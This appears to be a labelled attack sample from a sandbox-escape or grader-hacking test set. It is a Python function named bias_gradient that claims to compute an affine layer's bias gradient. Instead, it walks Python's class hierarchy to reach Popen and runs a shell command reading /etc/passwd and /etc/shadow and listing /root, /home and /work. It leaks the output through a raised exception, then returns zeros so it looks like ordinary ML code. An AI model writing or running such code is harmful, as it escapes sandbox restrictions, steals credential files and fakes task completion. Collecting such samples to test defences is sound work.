# Tries: climbs from an empty tuple to Popen and reads with a shell
# Attacks: affine/bias-gradient
# Class: A26
# %%
def bias_gradient(dY):
    for each in ().__class__.__base__.__subclasses__():
        if each.__name__ == "Popen":
            run = each("cat /etc/passwd /etc/shadow; ls /root /home /work", shell=True, stdout=-1, stderr=-3)
            out, _ = run.communicate()
            if out:
                raise ValueError("SMUG" "GLED " + out.decode())
    return np.zeros(dY.shape[1])
